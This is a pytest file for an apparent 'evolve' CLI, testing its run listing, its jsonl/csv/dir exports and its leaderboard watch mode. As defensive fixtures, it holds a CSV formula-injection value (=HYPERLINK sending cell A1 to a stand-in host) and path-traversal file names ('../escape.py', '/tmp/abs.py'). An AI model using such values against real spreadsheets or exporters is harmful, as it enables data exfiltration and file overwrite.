"""The commands that look back at runs: `evolve runs`, `evolve export` and `evolve
leaderboard --watch`, run through click against a store filled through the Store API as a
run fills it: a finished run with lineage, evaluations, a paid proposal and a migration; a
run whose driver on a lost machine went quiet; a run whose driver is alive."""

from __future__ import annotations

import _thread
import csv
import io
import json
import sqlite3
import threading
import time
from collections.abc import Iterator
from dataclasses import asdict
from datetime import datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from click.testing import CliRunner, Result

from evolve.cli.commands import main
from evolve.llm import LLMCall
from evolve.plugin.program import Program
from evolve.plugin.results import Counter, EvalResult, StageResult
from evolve.runtime.lease import LEASE_S, holder
from evolve.store import RunRecord, Settlement, Store
from evolve.ui import watch
from evolve.views import run_states
from tests.conftest import postgres_schema, store_record

DONE, DEAD, LIVE = "done-run", "dead-run", "live-run"
PROMPT = 'Make it faster: π ≈ 3.14\n"quoted" and\ttabbed'
LOST_MACHINE = {"host": "gone.example", "pid": 4242, "started": 17, "user": "ann"}


def program(n: int, extra: dict[str, str] | None = None) -> Program:
    block = f"import sys\n# EVOLVE-BLOCK-START\nN = {n}\n# EVOLVE-BLOCK-END\n"
    return Program({"main.py": block, **(extra or {})})


def passed(**metrics: float) -> EvalResult:
    return EvalResult.from_stages(
        [StageResult("build", True, 0.2), StageResult("measure", True, 1.0, metrics=metrics)],
        counters={"cycles": Counter(2e6, "perf")},
    )


def evaluate(store: Store, candidate_id: int, result: EvalResult, score: float | None) -> None:
    store.record_evaluation(
        store_record(store, candidate_id),
        result,
        kind="evaluate",
        score=score,
        input_seed=7,
        worker="worker-0",
        started_at=time.time() - 1.0,
        finished_at=time.time(),
    )


def fill(store: Store) -> None:
    """The three runs, oldest first: DONE, DEAD, LIVE."""
    store.create_run(
        DONE,
        task_path="tasks/sorter/task.yaml",
        task_yaml="name: sorter  # the task's own name\nseed: 3\n",
        seed=3,
        settings={"workers": 2},
    )
    seed = store.plant_seed(DONE, program(0))
    evaluate(store, seed.id, passed(ns=10.0, bytes=100.0), score=-10.0)
    proposal = store.open_proposal(DONE, operator="diff", parent_ids=[seed.id], island=0)
    call = LLMCall(
        provider="openai-compatible",
        model="m1",
        prompt=PROMPT,
        response="--- a\n+++ b\n",
        input_tokens=120,
        output_tokens=30,
        cost_usd=0.0125,
        latency_s=0.7,
        status="ok",
        cached_tokens=20,
        started_at=time.time(),
    )
    store.add_proposal_call(proposal, call)
    child = store.add_candidate(
        DONE,
        program(1),
        parent_ids=[seed.id],
        island=1,
        generation=1,
        mutation={"operator": "diff", "model": "openai-compatible:m1", "summary": "N 0 -> 1"},
        settlement=Settlement(proposal, "candidate", [call], summary="N 0 -> 1"),
    )
    assert child is not None
    evaluate(store, child.id, passed(ns=5.0, bytes=90.0), score=-5.0)
    cross = store.add_candidate(
        DONE,
        program(2),
        parent_ids=[child.id, seed.id],
        island=1,
        generation=2,
        mutation={"operator": "crossover"},
    )
    assert cross is not None
    failed = EvalResult.from_stages([StageResult("check", False, 0.1, feedback="wrong order")])
    evaluate(store, cross.id, failed, score=None)
    store.add_migration(DONE, child.id, 0)
    store.set_run_status(DONE, "finished")

    for name in (DEAD, LIVE):
        store.create_run(name, task_path=f"/srv/{name}.yaml", task_yaml="", seed=0, settings={})
    stale = SimpleNamespace(time=lambda: time.time() - 3 * LEASE_S)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("evolve.store.runs.time", stale)  # the lease as a lost driver left it
        assert store.take_lease(DEAD, LOST_MACHINE, LEASE_S) is None
    assert store.take_lease(LIVE, holder(), LEASE_S) is None


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """A store holding the three runs."""
    if request.param == "sqlite":
        found = f"sqlite:///{tmp_path / 'evolve.db'}"
        with Store(found) as store:
            fill(store)
        yield found
        return
    with postgres_schema() as found:
        with Store(found) as store:
            fill(store)
        yield found


@pytest.fixture
def sqlite_url(tmp_path: Path) -> str:
    found = f"sqlite:///{tmp_path / 'evolve.db'}"
    with Store(found) as store:
        fill(store)
    return found


def cli(url: str, *args: str) -> Result:
    return CliRunner().invoke(main, [*args, "--db", url], catch_exceptions=False)


def row(output: str, name: str) -> str:
    return next(line for line in output.splitlines() if f" {name} " in line)


def normal(record: Any) -> dict[str, Any]:
    """A record as JSON gives it back: tuples are lists."""
    return json.loads(json.dumps(asdict(record)))


def test_runs_lists_each_run_newest_first_and_a_dead_driver_as_killed(url: str) -> None:
    shown = cli(url, "runs")
    assert shown.exit_code == 0, shown.output
    lines = shown.output.splitlines()
    order = [next(i for i, line in enumerate(lines) if f" {n} " in line) for n in (LIVE, DEAD)]
    assert order[0] < order[1] < lines.index(row(shown.output, DONE)), "newest first"
    assert "killed" in row(shown.output, DEAD)
    assert "running" in row(shown.output, LIVE) and "killed" not in row(shown.output, LIVE)
    done = row(shown.output, DONE)
    assert "finished" in done and " sorter " in done, "the task's name, from its YAML"
    assert " 3 " in done and done.count(" - ") == 1, "3 candidates, none measured twice"
    assert "$0.0125, 150 tokens" in done
    dead = row(shown.output, DEAD)
    assert "/srv/dead-run.yaml" in dead, "no name in the YAML: the task's path"
    assert dead.count(" - ") == 2, "no score and no model calls"
    with Store(url) as store:
        run = store.get_run(DONE)
    assert run is not None
    assert time.strftime("%Y-%m-%d %H:%M", time.localtime(run.created_at)) in done


def test_shown_status_turns_running_into_killed_only_past_the_lease() -> None:
    record = RunRecord(
        name="r",
        created_at=0.0,
        task_path="t",
        task_yaml="",
        seed=0,
        settings={},
        status="running",
        wall_s_used=0.0,
        updated_at=1000.0,
        driver={"heartbeat": 5000.0},
    )
    assert run_states.shown_status(record, 5000.0 + LEASE_S - 1) == "running"
    assert run_states.shown_status(record, 5000.0 + LEASE_S + 1) == "killed"
    quiet = RunRecord(**{**asdict(record), "driver": None})
    assert run_states.shown_status(quiet, 1000.0 + LEASE_S + 1) == "killed"
    ended = RunRecord(**{**asdict(record), "status": "stopped"})
    assert run_states.shown_status(ended, 1e9) == "stopped"


def test_runs_on_an_empty_store_says_so(tmp_path: Path) -> None:
    empty = f"sqlite:///{tmp_path / 'empty.db'}"
    Store(empty).close()
    shown = cli(empty, "runs")
    assert shown.exit_code == 0
    assert shown.output.startswith("no runs in ") and shown.output.count("\n") == 1


def test_jsonl_keeps_every_field_of_every_record(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("evolve.store.database.PAGE_ROWS", 2)  # several pages of each kind
    exported = cli(url, "export", DONE, "--format", "jsonl")
    assert exported.exit_code == 0, exported.output
    lines = [json.loads(line) for line in exported.output.splitlines()]
    kinds = [line.pop("type") for line in lines]
    assert kinds == ["run"] + ["candidate"] * 3 + ["evaluation"] * 3 + [
        "proposal",
        "llm_call",
        "migration",
    ]
    with Store(url) as store:
        run = store.get_run(DONE)
        assert run is not None and lines[0] == normal(run)
        candidates = [store.candidate(line["id"]) for line in lines[1:4]]
        assert [normal(c) for c in candidates] == lines[1:4]
        assert [normal(e) for e in store.run_evaluations(DONE)] == lines[4:7]
        assert [normal(p) for p in store.proposals(DONE)] == [lines[7]]
        assert [normal(c) for c in store.llm_calls_of_run(DONE)] == [lines[8]]
    assert lines[2]["program"]["files"] == dict(program(1).files)
    assert lines[2]["mutation"]["summary"] == "N 0 -> 1"
    assert lines[8]["prompt"] == PROMPT and lines[8]["cached_tokens"] == 20
    assert lines[9] == {
        "id": lines[9]["id"],
        "run_name": DONE,
        "candidate_id": lines[2]["id"],
        "to_island": 0,
        "created_at": lines[9]["created_at"],
    }


def test_csv_has_a_row_per_candidate_and_a_column_per_metric(
    sqlite_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "run.csv"
    written = cli(sqlite_url, "export", DONE, "--format", "csv", "-o", str(out))
    assert written.exit_code == 0, written.output
    to_stdout = cli(sqlite_url, "export", DONE, "--format", "csv")
    assert to_stdout.output == out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    seed, child, cross = rows
    assert list(seed)[-2:] == ["bytes", "ns"], "the metrics, sorted, after the fixed columns"
    assert (seed["operator"], seed["parent_ids"], seed["ns"]) == ("seed", "", "10.0")
    assert child["parent_ids"] == seed["id"] and child["score"] == "-5.0"
    assert (child["model"], child["summary"]) == ("openai-compatible:m1", "N 0 -> 1")
    assert (child["bytes"], child["ns"]) == ("90.0", "5.0")
    assert cross["parent_ids"] == f"{child['id']} {seed['id']}"
    assert cross["status"] == "check_failed" and cross["score"] == cross["ns"] == ""
    with Store(sqlite_url) as store:
        made = store.candidate(int(seed["id"]))
    assert made is not None
    when = datetime.fromisoformat(seed["created_at"])  # ISO 8601, in UTC
    assert seed["created_at"].endswith("Z") and when.utcoffset() == timedelta(0)
    assert abs(when.timestamp() - made.created_at) < 0.001


def test_csv_writes_model_text_that_a_spreadsheet_would_run_as_text(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'evolve.db'}"
    hostile = {
        "operator": "-diff",
        "model": "@provider:m",
        "summary": '=HYPERLINK("http://x.example/?"&A1,"see")',
    }
    with Store(url) as store:
        store.create_run("hostile", task_path="t.yaml", task_yaml="", seed=0, settings={})
        seed = store.plant_seed("hostile", program(0))
        child = store.add_candidate(
            "hostile", program(1), parent_ids=[seed.id], island=0, generation=1, mutation=hostile
        )
        assert child is not None
    exported = cli(url, "export", "hostile", "--format", "csv")
    assert exported.exit_code == 0, exported.output
    _, row = list(csv.DictReader(io.StringIO(exported.output)))
    assert [row["operator"], row["model"], row["summary"]] == [
        "'" + hostile[key] for key in ("operator", "model", "summary")
    ]


def test_dir_writes_programs_and_a_manifest_and_refuses_paths_that_leave(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'evolve.db'}"
    with Store(url) as store:
        store.create_run("hostile", task_path="t.yaml", task_yaml="", seed=0, settings={})
        seed = store.plant_seed("hostile", program(0, {"lib/util.py": "X = 1\n"}))
        bad = store.add_candidate(
            "hostile",
            program(1, {"../escape.py": "owned\n", "/tmp/abs.py": "owned\n", "ok.py": "ok\n"}),
            parent_ids=[seed.id],
            island=0,
            generation=1,
            mutation={"operator": "rewrite", "summary": "climbs out"},
        )
        assert bad is not None
    out = tmp_path / "export"
    done = cli(url, "export", "--format", "dir", "-o", str(out))
    assert done.exit_code == 0, done.output
    assert (out / str(seed.id) / "lib" / "util.py").read_text() == "X = 1\n"
    assert (out / str(bad.id) / "ok.py").read_text() == "ok\n"
    assert sorted(p.name for p in (out / str(bad.id)).iterdir()) == ["main.py", "ok.py"]
    assert not (tmp_path / "escape.py").exists() and not (out / "escape.py").exists()
    assert "'../escape.py'" in done.stderr and "'/tmp/abs.py'" in done.stderr
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["run"]["name"] == "hostile"
    entries = {entry["id"]: entry for entry in manifest["candidates"]}
    assert entries[seed.id]["files"] == ["main.py", "lib/util.py"]
    assert entries[bad.id] == {
        "id": bad.id,
        "parents": [seed.id],
        "status": "pending",
        "score": None,
        "operator": "rewrite",
        "summary": "climbs out",
        "files": ["main.py", "ok.py"],
    }

    again = cli(url, "export", "--format", "dir", "-o", str(out))
    assert again.exit_code == 2 and "not an empty folder" in again.stderr
    missing = cli(url, "export", "--format", "dir")
    assert missing.exit_code == 2 and "needs -o DIR" in missing.output


def test_a_stored_program_that_fails_todays_checks_is_still_shown_and_exported(
    tmp_path: Path,
) -> None:
    """A row an older version wrote under looser checks, or one changed by hand: no block
    left in one program, a block never closed in another. Every command still reads it."""
    url = f"sqlite:///{tmp_path / 'evolve.db'}"
    with Store(url) as store:
        store.create_run("old", task_path="t.yaml", task_yaml="", seed=0, settings={})
        seed = store.plant_seed("old", program(0))
        kids = [
            store.add_candidate(
                "old", program(n), parent_ids=[seed.id], island=0, generation=1, mutation={}
            )
            for n in (1, 2)
        ]
    blockless, unclosed = (kid.id for kid in kids if kid is not None)
    texts = {blockless: "N = 1\n", unclosed: "# EVOLVE-BLOCK-START\nN = 2\n"}
    with sqlite3.connect(tmp_path / "evolve.db") as db:
        for candidate_id, text in texts.items():
            files = json.dumps({"main.py": text})
            db.execute("UPDATE candidates SET files = ? WHERE id = ?", (files, candidate_id))

    lines = [
        json.loads(line) for line in cli(url, "export", "--format", "jsonl").stdout.splitlines()
    ]
    exported = {r["id"]: r["program"]["files"] for r in lines if r["type"] == "candidate"}
    assert {i: exported[i]["main.py"] for i in texts} == texts
    out = tmp_path / "export"
    assert cli(url, "export", "--format", "dir", "-o", str(out)).exit_code == 0
    assert {i: (out / str(i) / "main.py").read_text() for i in texts} == texts
    for candidate_id, text in texts.items():
        shown = cli(url, "show", str(candidate_id))
        assert shown.exit_code == 0 and text.splitlines()[-1] in shown.stdout
    board = cli(url, "leaderboard", "old")
    assert board.exit_code == 0


def test_export_of_an_unknown_run_says_how_to_find_one(sqlite_url: str) -> None:
    done = cli(sqlite_url, "export", "nope")
    assert done.exit_code == 2
    assert "no run 'nope'" in done.stderr and "evolve runs" in done.stderr


def test_watch_follows_a_run_until_it_finishes(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    readings = 0
    read_twice = threading.Event()
    real = run_states.shown_status

    def counted(record: RunRecord, now: float) -> str:
        nonlocal readings
        readings += 1
        if readings == 2:
            read_twice.set()
        return real(record, now)

    def finish() -> None:  # once the board has been drawn twice, however slow the machine
        read_twice.wait(timeout=60)
        with Store(sqlite_url) as store:
            store.end_lease(LIVE, None, "finished")

    monkeypatch.setattr(watch, "shown_status", counted)
    finisher = threading.Thread(target=finish)
    finisher.start()
    watched = cli(sqlite_url, "leaderboard", LIVE, "--watch", "--interval", "0.1")
    finisher.join()
    assert watched.exit_code == 0, watched.output
    assert watched.output.count(f"run {LIVE} (running)") >= 2, "redrawn while it ran"
    assert watched.output.rstrip().endswith(f"run {LIVE} (finished):")


def test_watch_of_a_dead_drivers_run_ends_at_once_as_killed(sqlite_url: str) -> None:
    watched = cli(sqlite_url, "leaderboard", DEAD, "--watch")
    assert watched.exit_code == 0
    assert watched.output.count(f"run {DEAD} (killed)") == 1


def test_watch_ends_quietly_on_ctrl_c(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    readings = 0
    real = run_states.shown_status

    def press_ctrl_c_on_the_third(record: RunRecord, now: float) -> str:
        nonlocal readings
        readings += 1
        if readings == 3:
            _thread.interrupt_main()  # SIGINT's effect, as the terminal's Ctrl-C sends it
        return real(record, now)

    monkeypatch.setattr(watch, "shown_status", press_ctrl_c_on_the_third)
    watched = cli(sqlite_url, "leaderboard", LIVE, "--watch", "--interval", "0.05")
    assert watched.exit_code == 0
    assert readings == 3 and "Aborted" not in watched.output


def test_leaderboard_without_watch_prints_once(sqlite_url: str) -> None:
    shown = cli(sqlite_url, "leaderboard", DONE)
    assert shown.exit_code == 0
    assert shown.output.count(f"run {DONE} (finished)") == 1 and "top 10 of" in shown.output


def test_jsonl_is_strict_json_when_an_evaluator_reports_no_finite_number(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'evolve.db'}"
    with Store(url) as store:
        store.create_run("odd", task_path="t.yaml", task_yaml="", seed=0, settings={})
        seed = store.plant_seed("odd", program(0))
        evaluate(store, seed.id, passed(ns=float("inf"), bytes=float("nan")), score=None)
    exported = cli(url, "export", "odd", "--format", "jsonl")
    assert exported.exit_code == 0, exported.output

    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} is not JSON")

    lines = [json.loads(line, parse_constant=refuse) for line in exported.output.splitlines()]
    (evaluation,) = [line for line in lines if line["type"] == "evaluation"]
    assert evaluation["metrics"] == {"ns": "inf", "bytes": "nan"}


def test_names_and_records_from_the_store_are_text_not_markup_or_code(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'evolve.db'}"
    with Store(url) as store:
        store.create_run("x[/]", task_path="[bold]t.yaml", task_yaml="", seed=0, settings={})
        seed = store.plant_seed("x[/]", program(0))
        evaluate(store, seed.id, passed(ns=1.0), score=-1.0)
    with sqlite3.connect(tmp_path / "evolve.db") as connection:  # a record written by hand
        connection.execute("UPDATE candidates SET mutation = '[1, 2]'")
    listed = cli(url, "runs")
    assert listed.exit_code == 0, listed.output
    assert "x[/]" in listed.output and "[bold]t.yaml" in listed.output
    unknown = cli(url, "leaderboard", "y[/]")
    assert unknown.exit_code == 2 and "no run 'y[/]'" in unknown.output
    exported = cli(url, "export", "x[/]", "--format", "csv")
    assert exported.exit_code == 0, exported.output
    assert "seed" in exported.output.splitlines()[1]
    assert cli(url, "lineage", str(seed.id)).exit_code == 0


def test_an_export_to_a_folder_or_an_unwritable_place_says_so(
    sqlite_url: str, tmp_path: Path
) -> None:
    for target in (tmp_path, tmp_path / "no" / "such" / "folder.jsonl"):
        refused = cli(sqlite_url, "export", DONE, "-o", str(target))
        assert refused.exit_code == 2, refused.output
        assert f"cannot write {target}" in refused.output


def test_a_runs_best_is_its_champion_not_an_unverified_top_score(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'evolve.db'}"
    with Store(url) as store:
        store.create_run("r", task_path="t.yaml", task_yaml="", seed=0, settings={})
        seed = store.plant_seed("r", program(0))
        for _ in range(2):  # measured twice: it may be crowned
            evaluate(store, seed.id, passed(ns=5.0), score=-5.0)
        lucky = store.add_candidate(
            "r", program(1), parent_ids=[seed.id], island=0, generation=1, mutation={}
        )
        assert lucky is not None
        evaluate(store, lucky.id, passed(ns=1.0), score=-1.0)  # the top score, measured once
    listed = cli(url, "runs")
    assert listed.exit_code == 0, listed.output
    shown = row(listed.output, "r")
    assert f"#{seed.id} score -5 (the seed)" in shown and f"#{lucky.id}" not in shown
